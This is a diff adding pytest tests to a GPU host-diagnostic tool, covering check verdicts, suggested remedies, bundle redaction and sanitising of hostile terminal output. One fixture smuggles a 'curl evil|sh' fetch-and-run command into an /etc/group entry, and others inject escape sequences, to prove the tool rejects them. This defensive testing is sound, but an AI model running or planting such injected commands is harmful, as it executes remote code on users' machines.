@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import inspect
 import io
+import os
 import socket
 import tarfile
 import time
@@ -15,13 +16,14 @@ import pytest
 from radeon_stack.catalog.versions import clauses, version, within
 from radeon_stack.errors import Exit, UsageError
 from radeon_stack.host.boxed import together
-from radeon_stack.host.bundle import opened
+from radeon_stack.host.bundle import opened, pack
 from radeon_stack.host.checks import CHECKS, State, examine
 from radeon_stack.host.facts import Clock, gather
+from radeon_stack.host.gpus import topology
 from radeon_stack.host.known_issues import Setup, load_issues, met_by, mitigations
 from radeon_stack.host.sysroot import Sysroot
 from tests.conftest import ROOT, Cli
-from tests.stages import ENGINE, STAGES, Stage, build
+from tests.stages import ENGINE, R9700, RAPHAEL, RENDER, RX9060XT, STAGES, Stage, build
 from tests.stuck import impossible, stuck
 
 
@@ -233,6 +235,180 @@ def test_a_bundle_names_no_person_disk_host_or_serial(cli: Cli, tmp_path: Path) 
         assert secret not in everything, secret
     assert texts["proc/cmdline"] == "iommu=pt"
     assert "unique_id 1\n" in everything
+
+
+RX6600 = replace(RX9060XT, version=100302, device=0x73FF, bus=0x0D, minor=131)
+ROOTLESS = {"engine": {**ENGINE, "info": {"SecurityOptions": ["name=rootless"]}}}
+MIXED = {
+    "/dev/kfd": {"gid": RENDER, "mode": "666"},
+    "/dev/dri/renderD128": {"gid": RENDER, "mode": "660"},
+}
+PODMAN = {
+    "engine": {**ENGINE, "version": {"Version": "5.4.2", "Components": [{"Name": "Podman Engine"}]}, "images": []}
+}
+
+
+def with_environment(**environment: str) -> Stage:
+    return replace(STAGES["r9700"], overlay={"engine": ENGINE, "environment": environment})
+
+
+@pytest.mark.parametrize(
+    ("stage", "code", "state", "says"),
+    [
+        (Stage((RAPHAEL,)), "RS110", State.SKIPPED, "only an integrated GPU (gfx1036)"),
+        (Stage((R9700, RX6600)), "RS110", State.WARN, "gfx1032: in no release of ROCm"),
+        (Stage((RX6600,)), "RS110", State.FAIL, "gfx1032: in no release"),
+        (Stage((R9700, RX6600), overlay={"engine": {**ENGINE, "images": []}}), "RS401", State.WARN, "for gfx1201"),
+        (Stage((replace(R9700, driver="vfio-pci"),), topology=False, module=False), "RS102", State.WARN, "virtual"),
+        (Stage((replace(R9700, driver="radeon"),), topology=False, module=False), "RS102", State.WARN, "driver radeon"),
+        (with_environment(HSA_OVERRIDE_GFX_VERSION="12.0.1"), "RS112", State.OK, "changes nothing"),
+        (with_environment(HSA_OVERRIDE_GFX_VERSION="nonsense"), "RS112", State.FAIL, "another GPU"),
+        (with_environment(PYTORCH_HIP_ALLOC_CONF="expandable_segments:False"), "RS113", State.OK, "no allocator"),
+        (replace(STAGES["r9700"], overlay={**ROOTLESS, "nodes": MIXED}), "RS204", State.FAIL, "/dev/dri/renderD128"),
+        (replace(STAGES["three-r9700"], cmdline="amd_iommu=off"), "RS117", State.OK, "with amd_iommu=off"),
+        (replace(STAGES["r9700"], overlay=PODMAN), "RS203", State.WARN, "no BuildKit"),
+        (replace(STAGES["r9700"], overlay=PODMAN), "RS401", State.WARN, "builds none"),
+    ],
+)
+def test_a_real_machine_is_judged_as_it_is(tmp_path: Path, stage: Stage, code: str, state: State, says: str) -> None:
+    tree = Sysroot(build(stage, tmp_path))
+    finding = next(finding for check, finding in examine(gather(tree, tmp_path)) if check.code == code)
+    assert finding.state is state and says in finding.evidence, finding
+
+
+ROCKY = 'ID="rocky"\nID_LIKE="rhel centos fedora"\n'
+NIXOS = "ID=nixos\n"
+SOCKET_REMEDY = "export DOCKER_HOST=unix:///run/user/$(id -u)/podman/podman.sock"
+
+
+@pytest.mark.parametrize(
+    ("files", "overlay", "code", "remedy"),
+    [
+        ({"/etc/os-release": ROCKY}, {"why_not": ABSENT}, "RS201", ["sudo dnf install -y podman", SOCKET_REMEDY]),
+        ({"/etc/os-release": NIXOS}, {"why_not": ABSENT}, "RS201", []),
+        ({"/etc/group": "root:x:0:\n"}, None, "RS109", ["sudo groupadd --gid 992 radeon992"]),
+        ({"/etc/group": "x;curl evil|sh;:x:992:\n"}, None, "RS109", ["sudo groupadd --gid 992 radeon992"]),
+        ({"/etc/group": "docker:x:9:me\n"}, {"why_not": "at x (permission denied)"}, "RS201", ["newgrp docker"]),
+        ({}, {"why_not": "permission denied", "address": "unix:///run/podman/podman.sock"}, "RS201", [SOCKET_REMEDY]),
+    ],
+)
+def test_a_remedy_is_one_that_works_there(
+    cli: Cli, tmp_path: Path, files: dict[str, str], overlay: dict[str, str] | None, code: str, remedy: list[str]
+) -> None:
+    stage = replace(STAGES["no-permission"], files=files, overlay={"engine": overlay or {"why_not": ABSENT}})
+    told = cli("doctor", "--json", "--sysroot", build(stage, tmp_path))
+    found = next(check["remedy"] for check in told.json["checks"] if check["code"] == code)
+    assert set(remedy) <= set(found) and (remedy or not found), found
+    assert "evil" not in " ".join(found)
+
+
+def test_who_pointed_us_to_another_engine_is_told_so_first(
+    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for told in (f"unix://{tmp_path}/none.sock", "ssh://somewhere", "garbage"):
+        monkeypatch.setenv("DOCKER_HOST", told)
+        found = cli("doctor", "--json").json["checks"]
+        assert next(check["remedy"] for check in found if check["code"] == "RS201") == ["unset DOCKER_HOST"], told
+
+
+def test_nothing_of_a_foreign_machine_drives_this_terminal(cli: Cli, tmp_path: Path) -> None:
+    evil = "\x1b]0;owned\x07\u202e\ud800"
+    engine = {**ENGINE, "version": {"Version": evil, "ApiVersion": evil}}
+    stage = replace(
+        STAGES["r9700"], driver="6\x1b[31m", overlay={"engine": engine, "environment": {"DOCKER_HOST": evil}}
+    )
+    told = cli("doctor", "-v", "--sysroot", build(stage, tmp_path))
+    assert told.code in (Exit.OK, Exit.MACHINE) and not [c for c in told.out + told.err if ord(c) < 32 and c != "\n"]
+    refused = cli("doctor", "--sysroot", "\x1b[31mnowhere")
+    assert refused.code == Exit.USAGE and "\x1b" not in refused.err
+
+
+def test_a_probe_that_breaks_is_no_green_doctor(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    def broken(sysroot: Sysroot) -> dict[str, object]:
+        raise OverflowError("cannot convert")
+
+    monkeypatch.setattr("radeon_stack.host.facts.from_files", broken)
+    found = {check.code: finding for check, finding in examine(gather(Sysroot(tmp_path), tmp_path))}
+    assert found["RS100"].state is State.FAIL and "OverflowError: cannot convert" in found["RS100"].evidence
+    assert found["RS101"].state is State.SKIPPED
+
+
+@pytest.mark.parametrize(
+    "damage",
+    [
+        {"user": {"gid": "1e400"}},
+        {"nodes": {"/dev/kfd": {"gid": 1e400}}},
+        {"engine": {"version": {"Components": True}, "info": {"SecurityOptions": True}}},
+        {"engine": {"version": [], "info": 3, "images": {"a": 1}}},
+        {"environment": [1], "programs": 7, "late": "files", "packages_missing": {}},
+    ],
+)
+def test_an_overlay_of_nonsense_is_read_as_far_as_it_goes(cli: Cli, tmp_path: Path, damage: dict[str, object]) -> None:
+    tree = build(replace(STAGES["r9700"], overlay=damage), tmp_path)
+    for command in ("doctor", "gpus"):
+        told = cli(command, "--sysroot", tree)
+        assert told.code in (Exit.OK, Exit.MACHINE) and "Traceback" not in told.err, told.err
+
+
+def test_a_tree_is_a_folder_or_a_bundle_and_nothing_else(cli: Cli, tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "pipe")
+    (tmp_path / "empty").mkdir()
+    (tmp_path / "noise").write_bytes(b"\x1f\x8bno archive")
+    for place in (tmp_path / "pipe", tmp_path / "empty", tmp_path / "noise", tmp_path / "none", ""):
+        for command in ("doctor", "gpus"):
+            told = cli(command, "--sysroot", place, timeout=20)
+            assert (told.code == Exit.USAGE and "--sysroot" in told.error) or "is no bundle" in told.error, told.error
+
+
+def test_a_bundle_replaces_nothing(cli: Cli, tmp_path: Path) -> None:
+    precious = tmp_path / "precious"
+    precious.write_text("kept")
+    for name in (precious, tmp_path, tmp_path / "no" / "folder", ""):
+        told = cli("doctor", "--sysroot", build(STAGES["r9700"], tmp_path / "m"), "--bundle", name)
+        assert told.code == Exit.USAGE and "--bundle" in told.error
+    assert precious.read_text() == "kept"
+
+
+def test_words_of_fix_mean_nothing_without_it(cli: Cli) -> None:
+    for words in (("--yes",), ("--dry-run",), ("--fix", "--json")):
+        assert cli("doctor", *words).code == Exit.USAGE
+
+
+def test_a_bundle_has_no_serial_of_a_variable_and_nothing_of_another_vendors_cdi(cli: Cli, tmp_path: Path) -> None:
+    serial = f"GPU-{R9700.unique_id:016x}"
+    other = '{"kind": "other.com/gpu", "devices": [{"name": "x", "containerEdits": {"env": ["TOKEN=hunter2"]}}]}'
+    amd = (
+        '{"kind": "amd.com/gpu", "devices": [{"name": "0", "containerEdits": {"mounts": [{"hostPath": "/home/alice"}],'
+    )
+    amd += ' "deviceNodes": [{"path": "/dev/kfd"}, {"path": "/dev/dri/renderD128"}]}}]}'
+    stage = replace(
+        STAGES["two-r9700-and-igpu"],
+        files={"/etc/cdi/alice-laptop.json": amd, "/etc/cdi/other.json": other},
+        overlay={"engine": ENGINE, "environment": {"ROCR_VISIBLE_DEVICES": serial}},
+    )
+    tree = build(stage, tmp_path / "machine")
+    cli("doctor", "--sysroot", tree, "--bundle", tmp_path / "b.tar.gz")
+    with tarfile.open(tmp_path / "b.tar.gz") as archive:
+        names = archive.getnames()
+        texts = "".join((archive.extractfile(m) or io.BytesIO()).read().decode() for m in archive if m.isreg())
+    for secret in (serial[4:], "hunter2", "alice"):
+        assert secret not in texts + " ".join(names), secret
+    assert "etc/cdi/amd.json" in names
+    with opened(str(tmp_path / "b.tar.gz")) as there:
+        ids = [gpu.unique_id for gpu in topology(there).gpus[:2]]
+        assert len(set(ids)) == 2
+        facts = gather(there, tmp_path)
+    assert facts.environment["ROCR_VISIBLE_DEVICES"] in {f"GPU-{number}" for number in (1, 2, 3)}
+    assert [(device.name, device.plain) for device in facts.cdi] == [("0", False)]
+
+
+def test_what_did_not_answer_is_in_the_bundle_too(tmp_path: Path) -> None:
+    tree = Sysroot(build(STAGES["r9700"], tmp_path / "machine"))
+    facts = replace(gather(tree, tmp_path), late=frozenset({"clocks"}), packages_missing=("torch",), buildkit=None)
+    pack(facts, tree, tmp_path / "b.tar.gz")
+    with opened(str(tmp_path / "b.tar.gz")) as there:
+        again = gather(there, tmp_path)
+    assert again.late == {"clocks"} and again.packages_missing == ("torch",) and again.buildkit is None
 
 
 @pytest.mark.parametrize("kind", ["up", "absolute", "link", "bomb", "many", "garbage", "truncated"])
